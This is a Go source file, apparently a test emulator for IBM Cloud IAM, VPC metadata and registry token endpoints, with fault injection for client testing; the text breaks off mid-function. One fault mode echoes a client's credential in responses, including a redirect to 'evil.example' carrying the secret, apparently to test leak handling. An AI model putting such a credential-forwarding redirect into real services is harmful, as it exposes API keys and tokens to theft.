package iamtest

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"mime"
	"net"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// Defaults that make NewServer() usable without options.
const (
	// DefaultAccountID is the IBM Cloud account (BSS id) of the default
	// identities.
	DefaultAccountID = "a1b2c3d4e5f60718293a4b5c6d7e8f90"
	// DefaultAPIKey is an API key the server accepts unless
	// WithoutDefaults is given; it belongs to DefaultIdentity().
	DefaultAPIKey = "iamtest-DefaultApiKey-0123456789abcdefghijkl"
	// DefaultServiceIDIAMID is the iam_id of DefaultIdentity().
	DefaultServiceIDIAMID = "iam-ServiceId-7e1c2a9b-3f4d-4e5a-8b6c-0d1e2f3a4b5c"
	// DefaultProfileID is the id of the default trusted profile: linked to
	// the emulated VPC instance, its default profile, and trusted by the
	// service accounts of namespace DefaultSANamespace.
	DefaultProfileID = "Profile-5f0c8a2e-9d3b-4c71-8e6f-1a2b3c4d5e6f"
	// DefaultProfileName is the name of the default trusted profile.
	DefaultProfileName = "icr-node-pull"
	// DefaultInstanceID is the id of the emulated VPC instance.
	DefaultInstanceID = "0717_4f9a6c2e-1b3d-4e5f-a6b7-c8d9e0f1a2b3"
	// DefaultSAIssuer is the issuer of ServiceAccountToken's tokens.
	DefaultSAIssuer = "https://kubernetes.default.svc"
	// DefaultSANamespace is the namespace whose service accounts the
	// default profile trusts.
	DefaultSANamespace = "default"
	// DefaultAudience is the audience IAM expects in a compute-resource
	// token.
	DefaultAudience = "iam"
	// DefaultTokenLifetime is the lifetime of IAM access tokens.
	DefaultTokenLifetime = time.Hour
	// DefaultRepository and DefaultTag name the image the registry serves
	// unless WithoutDefaults is given (namespace "team").
	DefaultRepository = "team/app"
	// DefaultTag is the tag of DefaultRepository's manifest.
	DefaultTag = "latest"
)

// DefaultProfileCRN is the CRN of the default trusted profile.
const DefaultProfileCRN = "crn:v1:bluemix:public:iam-identity::a/" + DefaultAccountID + "::profile:" + DefaultProfileID

// DefaultInstanceCRN is the CRN of the emulated VPC instance.
const DefaultInstanceCRN = "crn:v1:bluemix:public:is:us-south-1:a/" + DefaultAccountID + "::instance:" + DefaultInstanceID

// Identity is who an API key belongs to.
type Identity struct {
	// IAMID is the iam_id, e.g. "iam-ServiceId-<uuid>".
	IAMID string
	// ID is the identifier and subject, e.g. "ServiceId-<uuid>"; derived
	// from IAMID if empty.
	ID string
	// Name is the service ID's (or user's) name.
	Name string
	// SubType is "ServiceId" (default) or "User".
	SubType string
	// AccountID is the account's BSS id; DefaultAccountID if empty.
	AccountID string
	// IMSUserID, if non-zero, is returned as ims_user_id.
	IMSUserID int64
}

// DefaultIdentity is the service ID that DefaultAPIKey belongs to.
func DefaultIdentity() Identity {
	return Identity{IAMID: DefaultServiceIDIAMID, Name: "icr-credential-provider", SubType: "ServiceId", AccountID: DefaultAccountID}
}

func (id Identity) normalized() Identity {
	if id.ID == "" {
		id.ID = strings.TrimPrefix(id.IAMID, "iam-")
	}
	if id.SubType == "" {
		id.SubType = "ServiceId"
	}
	if id.AccountID == "" {
		id.AccountID = DefaultAccountID
	}
	return id
}

// ServiceAccount is a Kubernetes service account a trusted profile trusts.
// An empty field or "*" matches anything.
type ServiceAccount struct {
	Issuer, Namespace, Name string
}

func (sa ServiceAccount) matches(iss, ns, name string) bool {
	m := func(pat, v string) bool { return pat == "" || pat == "*" || pat == v }
	return m(sa.Issuer, iss) && m(sa.Namespace, ns) && m(sa.Name, name)
}

// Profile is an IAM trusted profile.
type Profile struct {
	// ID is the profile id, e.g. "Profile-<uuid>".
	ID string
	// Name is the profile's name.
	Name string
	// CRN is derived from AccountID and ID if empty.
	CRN string
	// IAMID is "iam-" + ID if empty.
	IAMID string
	// AccountID is DefaultAccountID if empty.
	AccountID string
	// LinkedToInstance: the emulated VPC instance may use this profile.
	LinkedToInstance bool
	// InstanceDefault: the profile the metadata service uses when the
	// request names none (implies LinkedToInstance).
	InstanceDefault bool
	// TrustedServiceAccounts may exchange their tokens for this profile's
	// (cr-token grant).
	TrustedServiceAccounts []ServiceAccount
}

func (p Profile) normalized() Profile {
	if p.AccountID == "" {
		p.AccountID = DefaultAccountID
	}
	if p.IAMID == "" {
		p.IAMID = "iam-" + p.ID
	}
	if p.CRN == "" {
		p.CRN = "crn:v1:bluemix:public:iam-identity::a/" + p.AccountID + "::profile:" + p.ID
	}
	if p.InstanceDefault {
		p.LinkedToInstance = true
	}
	return p
}

func (p Profile) trusts(iss, ns, name string) bool {
	for _, sa := range p.TrustedServiceAccounts {
		if sa.matches(iss, ns, name) {
			return true
		}
	}
	return false
}

// DefaultProfile is the trusted profile configured unless WithoutDefaults
// is given.
func DefaultProfile() Profile {
	return Profile{
		ID: DefaultProfileID, Name: DefaultProfileName, AccountID: DefaultAccountID,
		LinkedToInstance: true, InstanceDefault: true,
		TrustedServiceAccounts: []ServiceAccount{{Namespace: DefaultSANamespace, Name: "*"}},
	}
}

// Option configures a Server.
type Option func(*config)

type apiKey struct {
	key string
	id  Identity
}

type pullRule struct{ iamID, namespace string }

type image struct{ repo, tag string }

type config struct {
	keys        []apiKey
	profiles    []Profile
	lifetime    time.Duration
	clock       func() time.Time
	skew        time.Duration
	faults      map[Endpoint]Fault
	audience    string
	pullRules   []pullRule
	images      []image
	strict      bool
	onlyPaths   string
	addr        string
	logw        io.Writer
	noDefaults  bool
	instanceCRN string
	runnable    []runnableImage
	tlsAddr     string
	tlsCert     *tls.Certificate
}

// WithAPIKey makes the server accept key for identity id (in addition to
// DefaultAPIKey unless WithoutDefaults is given).
func WithAPIKey(key string, id Identity) Option {
	return func(c *config) { c.keys = append(c.keys, apiKey{key, id.normalized()}) }
}

// WithTrustedProfile adds a trusted profile; one with the id of an earlier
// profile (including DefaultProfileID) replaces it.
func WithTrustedProfile(p Profile) Option {
	return func(c *config) {
		p = p.normalized()
		for i := range c.profiles {
			if c.profiles[i].ID == p.ID {
				c.profiles[i] = p
				return
			}
		}
		c.profiles = append(c.profiles, p)
	}
}

// WithoutDefaults drops DefaultAPIKey, DefaultProfile() and the default
// image; only what other options configure exists.
func WithoutDefaults() Option { return func(c *config) { c.noDefaults = true } }

// WithTokenLifetime sets the lifetime of the IAM access tokens the server
// issues (expires_in); default DefaultTokenLifetime.
func WithTokenLifetime(d time.Duration) Option { return func(c *config) { c.lifetime = d } }

// WithClock sets the clock the server's answers are based on (Date header,
// iat, exp, expiration, created_at, expires_at); default time.Now.
func WithClock(now func() time.Time) Option { return func(c *config) { c.clock = now } }

// WithClockSkew sets the emulator's clock ahead of (d > 0) or behind the
// clock given by WithClock, to reproduce clock-skew problems.
func WithClockSkew(d time.Duration) Option { return func(c *config) { c.skew = d } }

// WithFault installs fault f on endpoint ep from the start.
func WithFault(ep Endpoint, f Fault) Option {
	return func(c *config) {
		if c.faults == nil {
			c.faults = map[Endpoint]Fault{}
		}
		c.faults[ep] = f
	}
}

// WithAudience sets the audience IAM requires in a cr-token grant's
// service-account token; default DefaultAudience ("iam").
func WithAudience(aud string) Option { return func(c *config) { c.audience = aud } }

// AllowPull allows the identity iamID to pull from registry namespace
// namespace ("*" matches any). Without any AllowPull option every identity
// minted by the server may pull everything; with one, only what the rules
// allow, everything else gets DENIED.
func AllowPull(iamID, namespace string) Option {
	return func(c *config) { c.pullRules = append(c.pullRules, pullRule{iamID, namespace}) }
}

// WithImage makes the registry serve a small image manifest for
// repository:tag (e.g. "team/app", "v1").
func WithImage(repository, tag string) Option {
	return func(c *config) { c.images = append(c.images, image{repository, tag}) }
}

// WithStrictMetadataVersions makes the metadata service answer 404 on the
// /identity/v1 paths for version dates before 2025-08-26. The documented
// behaviour (and the default) is that /identity/v1 answers for every
// version date; /instance_identity/v1 answers 404 from 2025-08-26 in both
// modes.
func WithStrictMetadataVersions() Option { return func(c *config) { c.strict = true } }

// WithOnlyMetadataPaths makes the metadata service answer 404 on every path
// but those of one path set: "/instance_identity/v1" (a service that
// predates the 2025-08-26 paths) or "/identity/v1" (one that has retired
// the old ones), whatever the version date.
func WithOnlyMetadataPaths(prefix string) Option { return func(c *config) { c.onlyPaths = prefix } }

// WithAddr makes the server listen on addr, which must be a loopback
// address (e.g. "127.0.0.1:8080"); default "127.0.0.1:0".
func WithAddr(addr string) Option { return func(c *config) { c.addr = addr } }

// WithRequestLog writes one line per request to w: endpoint, method, path
// and status. Queries, headers and bodies are never logged.
func WithRequestLog(w io.Writer) Option { return func(c *config) { c.logw = w } }

// Server is a running emulator. Its methods are safe for concurrent use.
type Server struct {
	// URL is the base URL, "http://127.0.0.1:PORT", of all three services.
	URL string
	// TLSURL is the base URL of the same services over TLS,
	// "https://127.0.0.1:PORT", when WithTLS is given; empty otherwise.
	TLSURL string

	cfg      config
	sign     *signer
	srv      *http.Server
	tlsSrv   *http.Server
	listener net.Listener
	done     chan struct{}
	closeMu  sync.Once
	gate     sync.RWMutex // guards closed against inflight.Add
	closed   bool
	inflight sync.WaitGroup

	skew     atomic.Int64
	counts   [numEndpoints]atomic.Int64
	grants   atomic.Int64
	mu       sync.Mutex
	faults   [numEndpoints]Fault
	last     [numEndpoints]*Request
	keys     map[string]Identity
	profiles []Profile
	images   map[string]map[string]*manifest // repo -> tag or digest -> manifest
	logMu    sync.Mutex

	regTokens []RegistryToken // guarded by mu

}

// NewServer starts an emulator on a loopback port. It panics if it cannot
// listen, like httptest.NewServer; use Start to get an error instead.
func NewServer(opts ...Option) *Server {
	s, err := Start(opts...)
	if err != nil {
		panic("iamtest: " + err.Error())
	}
	return s
}

// Start starts an emulator on a loopback port.
func Start(opts ...Option) (*Server, error) {
	c := config{lifetime: DefaultTokenLifetime, clock: time.Now, audience: DefaultAudience, addr: "127.0.0.1:0"}
	for _, o := range opts {
		o(&c)
	}
	if c.lifetime <= 0 {
		return nil, fmt.Errorf("token lifetime must be positive, got %v", c.lifetime)
	}
	if err := checkLoopback(c.addr); err != nil {
		return nil, err
	}
	c.instanceCRN = DefaultInstanceCRN
	s := &Server{cfg: c, sign: newSigner(), done: make(chan struct{}), keys: map[string]Identity{}}
	s.skew.Store(int64(c.skew))
	if !c.noDefaults {
		s.keys[DefaultAPIKey] = DefaultIdentity().normalized()
		s.profiles = append(s.profiles, DefaultProfile().normalized())
	}
	for _, k := range c.keys {
		s.keys[k.key] = k.id
	}
	for _, p := range c.profiles {
		replaced := false
		for i := range s.profiles {
			if s.profiles[i].ID == p.ID {
				s.profiles[i], replaced = p, true
			}
		}
		if !replaced {
			s.profiles = append(s.profiles, p)
		}
	}
	s.images = map[string]map[string]*manifest{}
	if !c.noDefaults {
		s.addImage(DefaultRepository, DefaultTag)
	}
	for _, im := range c.images {
		s.addImage(im.repo, im.tag)
	}
	for _, im := range c.runnable {
		if err := s.addRunnableImage(im); err != nil {
			return nil, err
		}
	}
	for ep, f := range c.faults {
		if ep >= 0 && ep < numEndpoints {
			s.faults[ep] = f
		}
	}

	l, err := net.Listen("tcp", c.addr)
	if err != nil {
		return nil, err
	}
	s.listener = l
	s.URL = "http://" + l.Addr().String()
	s.srv = &http.Server{
		Handler:           s,
		ReadHeaderTimeout: 10 * time.Second,
		ErrorLog:          log.New(io.Discard, "", 0),
	}
	if c.tlsCert != nil {
		if err := s.startTLS(); err != nil {
			_ = l.Close()
			return nil, err
		}
	}
	go func() { _ = s.srv.Serve(l) }()
	return s, nil
}

func checkLoopback(addr string) error {
	host, _, err := net.SplitHostPort(addr)
	if err != nil {
		return fmt.Errorf("listen address %q: %v", addr, err)
	}
	if host == "localhost" {
		return nil
	}
	ip := net.ParseIP(host)
	if ip == nil || !ip.IsLoopback() {
		return fmt.Errorf("listen address %q is not a loopback address; the emulator listens on 127.0.0.1 or ::1 only", addr)
	}
	return nil
}

// Close stops the server. Requests held by a Hang or Slow fault are
// released, connections are closed, and Close returns once all handlers
// have finished.
func (s *Server) Close() {
	s.closeMu.Do(func() {
		s.gate.Lock()
		s.closed = true
		s.gate.Unlock()
		close(s.done)
		_ = s.srv.Close()
		if s.tlsSrv != nil {
			_ = s.tlsSrv.Close()
		}
		s.inflight.Wait()
	})
}

// IAMURL is the IAM base URL (go-sdk-core's IamAuthenticator.URL).
func (s *Server) IAMURL() string { return s.URL }

// MetadataURL is the VPC metadata service base URL
// (VpcInstanceAuthenticator.URL).
func (s *Server) MetadataURL() string { return s.URL }

// RegistryHost is the registry's host:port, "127.0.0.1:PORT", as it appears
// in image references.
func (s *Server) RegistryHost() string { return strings.TrimPrefix(s.URL, "http://") }

// Now is the emulator's clock: WithClock's clock plus the clock skew.
func (s *Server) Now() time.Time {
	return s.cfg.clock().Add(time.Duration(s.skew.Load()))
}

// SetClockSkew changes the clock skew at run time (see WithClockSkew).
func (s *Server) SetClockSkew(d time.Duration) { s.skew.Store(int64(d)) }

// SetFault installs f on endpoint ep, replacing any fault there;
// SetFault(ep, Fault{}) clears it.
func (s *Server) SetFault(ep Endpoint, f Fault) {
	if ep < 0 || ep >= numEndpoints {
		return
	}
	s.mu.Lock()
	s.faults[ep] = f
	s.mu.Unlock()
}

// ClearFaults removes the faults of all endpoints.
func (s *Server) ClearFaults() {
	s.mu.Lock()
	s.faults = [numEndpoints]Fault{}
	s.mu.Unlock()
}

// Fault returns the fault currently installed on ep (Times counts down).
func (s *Server) Fault(ep Endpoint) Fault {
	if ep < 0 || ep >= numEndpoints {
		return Fault{}
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.faults[ep]
}

// takeFault returns ep's fault if there is one and applies reports that it
// applies to this request, consuming one of its Times.
func (s *Server) takeFault(ep Endpoint, applies func(FaultKind) bool) (Fault, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	f := s.faults[ep]
	if f.Kind == FaultNone || !applies(f.Kind) {
		return Fault{}, false
	}
	if f.Times > 0 {
		s.faults[ep].Times--
		if s.faults[ep].Times == 0 {
			s.faults[ep] = Fault{}
		}
	}
	return f, true
}

// Count is the number of requests endpoint ep has received (whatever their
// outcome) since the start or the last Reset.
func (s *Server) Count(ep Endpoint) int {
	if ep < 0 || ep >= numEndpoints {
		return 0
	}
	return int(s.counts[ep].Load())
}

// Minted returns every token the server has minted so far (IAM access
// tokens, instance identity tokens, registry tokens), for tests that
// assert none of them leaks.
func (s *Server) Minted() []string {
	s.sign.mu.Lock()
	defer s.sign.mu.Unlock()
	return append([]string(nil), s.sign.minted...)
}

// Grants is the number of IAM access tokens issued, by the IAM token
// endpoint and the metadata service's IAM token endpoint together.
func (s *Server) Grants() int { return int(s.grants.Load()) }

// Reset sets the counters to zero and forgets the last requests. Faults
// stay.
func (s *Server) Reset() {
	for i := range s.counts {
		s.counts[i].Store(0)
	}
	s.grants.Store(0)
	s.mu.Lock()
	s.last = [numEndpoints]*Request{}
	s.regTokens = nil
	s.mu.Unlock()
}

// Request is a snapshot of a request, with secrets redacted: the apikey,
// cr_token, password, refresh_token, client_secret, access_token and token
// fields (form or query) and the credentials of the Authorization header
// read "REDACTED".
type Request struct {
	Method string
	Path   string
	Query  url.Values
	Header http.Header
	// Form holds the url-encoded body fields (IAM token requests, registry
	// token POSTs).
	Form url.Values
	// Body is the raw body of other requests (JSON), at most 64 KiB.
	Body []byte
}

// LastRequest returns a snapshot of the last request endpoint ep received.
func (s *Server) LastRequest(ep Endpoint) (Request, bool) {
	if ep < 0 || ep >= numEndpoints {
		return Request{}, false
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.last[ep] == nil {
		return Request{}, false
	}
	return *s.last[ep], true
}

const redacted = "REDACTED"

var secretFields = []string{"apikey", "cr_token", "password", "refresh_token", "client_secret", "access_token", "token"}

func redactHeader(h http.Header) http.Header {
	h = h.Clone()
	for _, k := range []string{"Authorization", "Proxy-Authorization", "Cookie"} {
		for i, v := range h[k] {
			scheme, _, found := strings.Cut(v, " ")
			if found {
				h[k][i] = scheme + " " + redacted
			} else {
				h[k][i] = redacted
			}
		}
	}
	return h
}

func redactForm(f url.Values) url.Values {
	out := url.Values{}
	for k, vs := range f {
		out[k] = append([]string(nil), vs...)
	}
	for _, k := range secretFields {
		for i := range out[k] {
			out[k][i] = redacted
		}
	}
	return out
}

// route maps a path to its endpoint.
func route(p string) (Endpoint, bool) {
	switch p {
	case pathIAMToken:
		return EndpointIAMToken, true
	case pathMDTokenV1, pathMDTokenV2:
		return EndpointMetadataToken, true
	case pathMDIAMTokenV1, pathMDIAMTokenV2:
		return EndpointMetadataIAMToken, true
	case pathRegistryToken:
		return EndpointRegistry, true
	}
	if p == "/v2" || strings.HasPrefix(p, "/v2/") {
		return EndpointRegistry, true
	}
	return 0, false
}

// exchange is one request being served.
type exchange struct {
	s     *Server
	ep    Endpoint
	w     http.ResponseWriter
	r     *http.Request
	start time.Time
	body  []byte
	form  url.Values
}

// ServeHTTP serves the emulated services and the control endpoints:
//
//	GET  /_emulator/stats                        counters, grants, faults (JSON)
//	POST /_emulator/fault?endpoint=E&kind=K&...  install a fault (E may be "all";
//	                                             other parameters as in ParseFault:
//	                                             status, retry-after, delay, value,
//	                                             code, message, times); kind=none clears
//	POST /_emulator/reset                        reset the counters
//	POST /_emulator/clock?skew=D                 set the clock skew (Go duration)
func (s *Server) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.gate.RLock()
	if s.closed {
		s.gate.RUnlock()
		panic(http.ErrAbortHandler)
	}
	s.inflight.Add(1)
	s.gate.RUnlock()
	defer s.inflight.Done()
	start := time.Now()
	w.Header().Set("Date", s.Now().UTC().Format(http.TimeFormat))
	if strings.HasPrefix(r.URL.Path, "/_emulator/") {
		s.serveControl(w, r)
		return
	}
	ep, ok := route(r.URL.Path)
	if !ok {
		http.NotFound(w, r)
		return
	}
	s.counts[ep].Add(1)
	rec := &recorder{ResponseWriter: w, status: 0}
	x := &exchange{s: s, ep: ep, w: rec, r: r, start: start}
	x.snapshot()
	if s.cfg.logw != nil {
		defer func() {
			st := rec.status
			if rec.hijacked {
				st = 0
			}
			s.logMu.Lock()
			fmt.Fprintf(s.cfg.logw, "%s iamtest: %s %s %s %d %v\n", time.Now().UTC().Format(time.RFC3339), ep, r.Method, r.URL.Path, st, time.Since(start).Round(time.Millisecond))
			s.logMu.Unlock()
		}()
	}
	if f, ok := s.takeFault(ep, func(k FaultKind) bool { return !k.tokenShaped() }); ok {
		if x.applyFault(f) {
			return
		}
	}
	switch ep {
	case EndpointIAMToken:
		s.serveIAMToken(x)
	case EndpointMetadataToken:
		s.serveMetadataToken(x)
	case EndpointMetadataIAMToken:
		s.serveMetadataIAMToken(x)
	case EndpointRegistry:
		s.serveRegistry(x)
	}
}

// snapshot reads the body (keeping it readable) and records the request.
func (x *exchange) snapshot() {
	r := x.r
	if r.Body != nil {
		b, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		_ = r.Body.Close()
		x.body = b
		r.Body = io.NopCloser(bytes.NewReader(b))
	}
	req := &Request{Method: r.Method, Path: r.URL.Path, Query: redactForm(r.URL.Query()), Header: redactHeader(r.Header)}
	if mt, _, _ := mime.ParseMediaType(r.Header.Get("Content-Type")); mt == "application/x-www-form-urlencoded" {
		x.form, _ = url.ParseQuery(string(x.body))
		req.Form = redactForm(x.form)
	} else if len(x.body) > 0 {
		n := min(len(x.body), 64<<10)
		req.Body = append([]byte(nil), x.body[:n]...)
	}
	if x.form == nil {
		x.form = url.Values{}
	}
	x.s.mu.Lock()
	x.s.last[x.ep] = req
	x.s.mu.Unlock()
}

// wait blocks for d, or until the client goes away or the server closes;
// it reports whether the full delay elapsed.
func (x *exchange) wait(d time.Duration) bool {
	var timer <-chan time.Time
	if d >= 0 {
		t := time.NewTimer(d)
		defer t.Stop()
		timer = t.C
	}
	select {
	case <-timer:
		return true
	case <-x.r.Context().Done():
	case <-x.s.done:
	}
	return false
}

// applyFault carries out a non-token-shaped fault; it reports whether the
// request has been answered (false for FaultSlow after its delay).
func (x *exchange) applyFault(f Fault) bool {
	switch f.Kind {
	case FaultHang:
		x.wait(-1)
		// Never answer: drop the connection without a response.
		panic(http.ErrAbortHandler)
	case FaultSlow:
		d := f.Delay
		if d == 0 {
			d = 2 * time.Second
		}
		if !x.wait(d) {
			panic(http.ErrAbortHandler)
		}
		return false
	case FaultReset:
		x.reset()
		return true
	case FaultStatus:
		st := f.Status
		if st == 0 {
			st = http.StatusInternalServerError
		}
		if f.RetryAfter != "" {
			x.w.Header().Set("Retry-After", f.RetryAfter)
		}
		switch st {
		case http.StatusBadGateway, http.StatusServiceUnavailable, http.StatusGatewayTimeout:
			// A gateway in front of the service answers these, with HTML.
			x.w.Header().Set("Content-Type", "text/html")
			x.w.WriteHeader(st)
			fmt.Fprintf(x.w, "<html><head><title>%d %s</title></head><body><center><h1>%d %s</h1></center></body></html>\n", st, http.StatusText(st), st, http.StatusText(st))
		default:
			code, msg := statusCode(x.ep, st)
			x.nativeError(st, code, msg)
		}
		return true
	case FaultAPIError:
		st := f.Status
		if st == 0 {
			st = http.StatusBadRequest
		}
		if f.RetryAfter != "" {
			x.w.Header().Set("Retry-After", f.RetryAfter)
		}
		code, msg := f.Code, f.Message
		if code == "" || msg == "" {
			c, m := statusCode(x.ep, st)
			if code == "" {
				code = c
			}
			if msg == "" {
				msg = m
			}
		}
		x.nativeError(st, code, msg)
		return true
	case FaultEcho:
		x.echo(f.Echo)
		return true
	case FaultMalformedJSON:
		x.w.Header().Set("Content-Type", "application/json")
		x.w.WriteHeader(http.StatusOK)
		io.WriteString(x.w, `{"access_token":"eyJraWQiOiJpYW10ZXN0IiwiYWxnIjoiSFMyNTYifQ.eyJpYW1faWQiOi`+"\n")
		return true
	case FaultTruncatedBody:
		x.truncated()
		return true
	case FaultWrongContentType:
		x.w.Header().Set("Content-Type", "text/html; charset=utf-8")
		x.w.WriteHeader(http.StatusOK)
		io.WriteString(x.w, "<!DOCTYPE html>\n<html><head><title>Proxy Authentication</title></head><body><h1>Web access is restricted</h1><p>Please log in to continue.</p></body></html>\n")
		return true
	}
	return false
}

// statusCode gives an endpoint-native error code and message for a status
// without a more specific cause.
func statusCode(ep Endpoint, status int) (string, string) {
	switch ep {
	case EndpointIAMToken:
		// GUESSED codes: IAM's codes for throttling and internal errors are
		// not documented publicly.
		if status == http.StatusTooManyRequests {
			return "BXNIM0429E", "Too many requests. Try again later."
		}
		return "BXNIM0500E", "An internal error occurred."
	case EndpointRegistry:
		if status == http.StatusTooManyRequests {
			return "TOOMANYREQUESTS", "too many requests"
		}
		return "UNKNOWN", "unknown error"
	default:
		// VPC error codes (GUESSED, in the documented snake_case style).
		if status == http.StatusTooManyRequests {
			return "rate_limit_exceeded", "The rate limit was exceeded. Try again later."
		}
		return "internal_error", "An internal error occurred."
	}
}

// nativeError answers with the endpoint's own error shape.
func (x *exchange) nativeError(status int, code, msg string) {
	switch x.ep {
	case EndpointIAMToken:
		x.iamError(status, code, msg, "")
	case EndpointRegistry:
		x.registryError(status, code, msg)
	default:
		x.vpcError(status, vpcErr{Code: code, Message: msg})
	}
}

// requestSecret is the secret the request carries: the API key or
// service-account token in the form, else the Authorization header's
// credential (a bearer token, or the Basic pair as sent).
func (x *exchange) requestSecret() string {
	for _, k := range []string{"apikey", "cr_token"} {
		if v := x.form.Get(k); v != "" {
			return v
		}
	}
	_, cred, _ := strings.Cut(x.r.Header.Get("Authorization"), " ")
	return cred
}

// echo answers with the request's secret where mode says (EchoModes).
func (x *exchange) echo(mode string) {
	sec := x.requestSecret()
	raw := func(head string) {
		conn, bw := x.hijack()
		defer conn.Close()
		bw.WriteString(head)
		_ = bw.Flush()
	}
	code, msg := "invalid_request", "the credential "+sec+" is not valid"
	switch mode {
	case "status-line":
		raw("HTTP/1.1 " + sec + " Bad\r\nContent-Length: 0\r\n\r\n")
		return
	case "header":
		raw("HTTP/1.1 400 Bad Request\r\nX-Echo " + sec + "\r\nContent-Length: 0\r\n\r\n")
		return
	case "redirect":
		x.w.Header().Set("Location", "https://evil.example/?credential="+url.QueryEscape(sec))
		x.w.WriteHeader(http.StatusFound)
		fmt.Fprintf(x.w, "moved: %s\n", sec)
		return
	case "split":
		code, msg = sec[:len(sec)/2], sec[len(sec)/2:]
	case "padded":
		msg = strings.Repeat("x", 590) + sec + strings.Repeat("y", 200) + sec
	case "urlencoded":
		msg = "credential=" + url.QueryEscape(sec)
	case "base64":
		msg = "credential " + base64.StdEncoding.EncodeToString([]byte(sec))
	case "upper":
		msg = "credential " + strings.ToUpper(sec)
	}
	x.nativeError(http.StatusBadRequest, code, msg)
}

// hijack takes the connection over, for answers net/http would not send.
func (x *exchange) hijack() (net.Conn, *bufio.ReadWriter) {
	hj, ok := x.w.(http.Hijacker)
	if !ok {
		panic(http.ErrAbortHandler)
	}
	conn, bw, err := hj.Hijack()
	if err != nil {
		panic(http.ErrAbortHandler)
	}
	return conn, bw
}

// reset closes the connection with an RST and no answer.
func (x *exchange) reset() {
	conn, _ := x.hijack()
	if tc, ok := conn.(*net.TCPConn); ok {
		_ = tc.SetLinger(0)
	}
	_ = conn.Close()
}

// truncated sends a 200 whose Content-Length promises more than is sent,
// then closes the connection.
func (x *exchange) truncated() {
	body := []byte(`{"access_token":"eyJraWQiOiJpYW10ZXN0IiwiYWxnIjoiSFMyNTYifQ.eyJpYW1faWQiOiJpYW0tU2VydmljZUlkIn0.c2ln","refresh_token":"not_supported","token_type":"Bearer","expires_in":3600,"expiration":` + fmt.Sprint(x.s.Now().Add(time.Hour).Unix()) + `}`)
	conn, bw := x.hijack()
	defer conn.Close()
	fmt.Fprintf(bw, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\nDate: %s\r\n\r\n", len(body)+256, x.s.Now().UTC().Format(http.TimeFormat))
	bw.Write(body[:len(body)/2])
	_ = bw.Flush()
}

// writeJSON answers status with v as JSON.
func (x *exchange) writeJSON(status int, v any) {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	x.w.Header().Set("Content-Type", "application/json")
	x.w.Header().Set("Content-Length", fmt.Sprint(len(b)+1))
	x.w.WriteHeader(status)
	x.w.Write(append(b, '\n'))
}

// recorder remembers the status for the request log and keeps Hijack.
type recorder struct {
	http.ResponseWriter
	status   int
	hijacked bool
}

func (r *recorder) WriteHeader(code int) {
	if r.status == 0 {
		r.status = code
	}
	r.ResponseWriter.WriteHeader(code)
}

func (r *recorder) Write(b []byte) (int, error) {
	if r.status == 0 {
		r.status = http.StatusOK
	}
	return r.ResponseWriter.Write(b)
}

func (r *recorder) Hijack() (net.Conn, *bufio.ReadWriter, error) {
	hj, ok := r.ResponseWriter.(http.Hijacker)
	if !ok {
		return nil, nil, fmt.Errorf("hijack not supported")
	}
	r.hijacked = true
	return hj.Hijack()
}

func (r *recorder) Flush() {
	if f, ok := r.ResponseWriter.(http.Flusher); ok {
		f.Flush()
	}
}

// Stats is the JSON answer of GET /_emulator/stats.
type Stats struct {
	// URL is the server's base URL.
	URL string `json:"url"`
	// Counts maps endpoint names to Server.Count.
	Counts map[string]int `json:"counts"`
	// Grants is Server.Grants.
	Grants int `json:"grants"`
	// Faults maps endpoint names to the installed fault, as ParseFault
	// reads it ("none" if none).
	Faults map[string]string `json:"faults"`
	// ClockSkew is the emulator's clock skew (a Go duration).
	ClockSkew string `json:"clock_skew"`
	// RegistryTokens is Server.RegistryTokens.
	RegistryTokens []RegistryToken `json:"registry_tokens"`
}

// Stats returns the counters, grants and faults.
func (s *Server) Stats() Stats {
	st := Stats{URL: s.URL, Counts: map[string]int{}, Faults: map[string]string{}, Grants: s.Grants(), ClockSkew: time.Duration(s.skew.Load()).String(),
		RegistryTokens: s.RegistryTokens()}
	for _, ep := range Endpoints() {
		st.Counts[ep.String()] = s.Count(ep)
		st.Faults[ep.String()] = s.Fault(ep).String()
	}
	return st
}

func (s *Server) serveControl(w http.ResponseWriter, r *http.Request) {
	reply := func(status int, v any) {
		b, _ := json.Marshal(v)
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		w.Write(append(b, '\n'))
	}
	fail := func(status int, err string) { reply(status, map[string]string{"error": err}) }
	q := r.URL.Query()
	switch r.URL.Path {
	case "/_emulator/stats":
		if r.Method != http.MethodGet && r.Method != http.MethodHead {
			fail(http.StatusMethodNotAllowed, "use GET")
			return
		}
		reply(http.StatusOK, s.Stats())
	case "/_emulator/fault":
		if r.Method != http.MethodPost && r.Method != http.MethodPut {
			fail(http.StatusMethodNotAllowed, "use POST")
			return
		}
		var eps []Endpoint
		if e := q.Get("endpoint"); e == "all" {
			eps = Endpoints()
		} else {
			ep, err := ParseEndpoint(e)
			if err != nil {
				fail(http.StatusBadRequest, err.Error())
				return
			}
			eps = []Endpoint{ep}
		}
		kind := q.Get("kind")
		if kind == "" {
			kind = q.Get("fault")
		}
		if kind == "" {
			fail(http.StatusBadRequest, "missing kind")
			return
		}
		spec := kind
		for _, k := range []string{"status", "retry-after", "retry_after", "delay", "value", "code", "times", "message"} {
			if v := q.Get(k); v != "" {
				spec += "," + k + "=" + v
			}
		}
		f, err := ParseFault(spec)
		if err != nil {
			fail(http.StatusBadRequest, err.Error())
			return
		}
		for _, ep := range eps {
			s.SetFault(ep, f)
		}
		reply(http.StatusOK, s.Stats())
	case "/_emulator/reset":
		if r.Method != http.MethodPost {
			fail(http.StatusMethodNotAllowed, "use POST")
			return
		}
		s.Reset()
		if q.Get("faults") == "true" {
			s.ClearFaults()
		}
		reply(http.StatusOK, s.Stats())
	case "/_emulator/clock":
		if r.Method != http.MethodPost {
			fail(http.StatusMethodNotAllowed, "use POST")
			return
		}
		d, err := time.ParseDuration(q.Get("skew"))
		if err != nil {
			fail(http.StatusBadRequest, "skew: "+err.Error())
			return
		}
		s.SetClockSkew(d)
